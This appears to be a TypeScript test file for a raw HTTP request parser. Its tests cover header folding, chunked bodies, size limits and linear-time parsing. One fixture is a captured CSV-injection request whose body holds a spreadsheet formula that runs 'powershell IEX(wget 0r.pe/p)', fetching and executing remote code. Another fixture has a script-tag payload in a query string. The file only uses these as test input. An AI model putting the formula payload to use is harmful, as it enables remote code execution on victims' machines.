import { test } from 'node:test';
import assert from 'node:assert/strict';
import fc from 'fast-check';
import { MAX_RAW_BODY, parseRawRequest } from './raw-request.js';

const CSV_INJECTION =
  "POST /index.html HTTP/1.1\nHost: 192.168.1.23\nUser-Agent: curl/7.43.0\nAccept: */*\nContent-Length: 64\nContent-Type: application/x-www-form-urlencoded\nConnection: close\n\nd=1;2;3;4;5\n1;@SUM(1+1)*cmd|' powershell IEX(wget 0r.pe/p)'!A0;3";

const parse = (s: string, max = 16384) => parseRawRequest(Buffer.from(s, 'latin1'), max);

test('reads a request with bare LF line ends: request line, lowercase headers and the body', () => {
  const r = parse(CSV_INJECTION);
  assert.equal(r.method, 'POST');
  assert.equal(r.target, '/index.html');
  assert.equal(r.path, '/index.html');
  assert.equal(r.query, '');
  assert.equal(r.headers['host'], '192.168.1.23');
  assert.equal(r.headers['content-type'], 'application/x-www-form-urlencoded');
  assert.equal(r.body.toString('latin1'), CSV_INJECTION.slice(CSV_INJECTION.indexOf('\n\n') + 2));
});

test('reads CRLF, mixed line ends, repeated headers, folding and a query', () => {
  const r = parse('GET /a/b?x=1&y=2 HTTP/1.1\r\nHost: h\nX-A: 1\r\nx-a: 2\r\nX-F: one\r\n two\r\nName : spaced\r\n\r\n');
  assert.equal(r.method, 'GET');
  assert.equal(r.path, '/a/b');
  assert.equal(r.query, 'x=1&y=2');
  assert.deepEqual(r.headers['x-a'], ['1', '2']);
  assert.equal(r.headers['x-f'], 'one two');
  assert.equal(r.headers['name'], 'spaced');
  assert.equal(r.body.length, 0);
});

test('keeps invalid header characters for inspection', () => {
  const r = parse('GET /x HTTP/1.1\r\nHost: a\r\nX-B\x01ad: v\x01w\r\n\r\n');
  assert.equal(r.headers['x-b\x01ad'], 'v\x01w');
});

test('a first line that is not a request line gives no method or target, and is read as a header', () => {
  for (const s of ['X-B\x01ad: 1\r\n\r\n', '\x16\x03\x01\x02\x00\x01\x00', 'GET\r\n\r\n', 'G\x00T /x HTTP/1.1\r\n\r\n', ' HTTP/1.1\r\n\r\n']) {
    const r = parse(s);
    assert.equal(r.method, null, JSON.stringify(s));
    assert.equal(r.target, null);
    assert.equal(r.path, '');
  }
  assert.equal(parse('X-B\x01ad: 1\r\n\r\n').headers['x-b\x01ad'], '1');
});

test('a target with spaces is read whole, without the version', () => {
  const r = parse('GET /demo?input=<script xmlns="x">a b</script>&// HTTP/1.1\r\nHost: a\r\n\r\n');
  assert.equal(r.method, 'GET');
  assert.equal(r.target, '/demo?input=<script xmlns="x">a b</script>&//');
  assert.equal(r.query, 'input=<script xmlns="x">a b</script>&//');
  assert.equal(parse('GET /x\n\n').target, '/x', 'HTTP/0.9 style: no version');
});

test('a chunked body is decoded (Transfer-Encoding overrides Content-Length)', () => {
  const r = parse('POST / HTTP/1.1\r\nContent-Length: 7\r\nTransfer-Encoding: chunked\r\n\r\n7\r\nfoo=bar\r\n3;ext=1\nbaz\n0\r\n\r\n');
  assert.equal(r.body.toString(), 'foo=barbaz');
  assert.equal(parse('POST / HTTP/1.1\nTransfer-Encoding: chunked\n\n4\nabcdxy\nzz\nxyz').body.toString(), 'abcd', 'stops where the framing breaks');
  assert.equal(parse(`POST / HTTP/1.1\nTransfer-Encoding: chunked\n\nfffff\n${'c'.repeat(MAX_RAW_BODY + 10)}`).body.length, MAX_RAW_BODY);
});

test('a hostile request line is read in linear time', () => {
  const t0 = process.hrtime.bigint();
  for (const filler of [' ', '\t', ' \t', 'a ']) parse(`GET /${filler.repeat(8000)}x${filler.repeat(8000)}\n\n`, 65536);
  assert.ok(Number(process.hrtime.bigint() - t0) / 1e6 < 200);
});

test('the body is bounded by Content-Length, the bytes received and the cap', () => {
  assert.equal(parse('POST / HTTP/1.1\nContent-Length: 3\n\nabcdef').body.toString(), 'abc');
  assert.equal(parse('POST / HTTP/1.1\nContent-Length: 300\n\nabcdef').body.toString(), 'abcdef');
  assert.equal(parse('POST / HTTP/1.1\nContent-Length: x\n\nabcdef').body.toString(), 'abcdef');
  assert.equal(parse(`POST / HTTP/1.1\n\n${'b'.repeat(MAX_RAW_BODY + 100)}`).body.length, MAX_RAW_BODY);
});

test('the head is bounded by the listener max header bytes', () => {
  const r = parse(`GET /x HTTP/1.1\nHost: a\nX-Long: ${'a'.repeat(5000)}\n\nbody`, 1024);
  assert.equal(r.method, 'GET');
  assert.ok(((r.headers['x-long'] as string) ?? '').length < 1024);
  assert.equal(r.body.length, 0, 'no blank line within the bound: no body');
});

test('never throws, and its output is bounded by its input (property)', () => {
  const line = fc.stringMatching(/^[\x00-\xff]{0,80}$/);
  const request = fc
    .tuple(fc.array(line, { maxLength: 30 }), fc.constantFrom('\n', '\r\n'), fc.string({ maxLength: 200 }))
    .map(([ls, eol, body]) => ls.join(eol) + eol + eol + body);
  fc.assert(
    fc.property(
      fc.oneof(
        request,
        fc.uint8Array({ maxLength: 3000 }).map((a) => Buffer.from(a).toString('latin1')),
      ),
      fc.integer({ min: 16, max: 4096 }),
      (s, max) => {
        const raw = Buffer.from(s, 'latin1');
        const r = parseRawRequest(raw, max);
        assert.ok(r.body.length <= Math.min(MAX_RAW_BODY, raw.length));
        let total = r.body.length + (r.target?.length ?? 0) + (r.method?.length ?? 0);
        for (const [k, v] of Object.entries(r.headers)) total += k.length + (typeof v === 'string' ? v.length : v.join('').length);
        assert.ok(total <= raw.length, `${total} > ${raw.length}`);
      },
    ),
    { numRuns: 500 },
  );
});
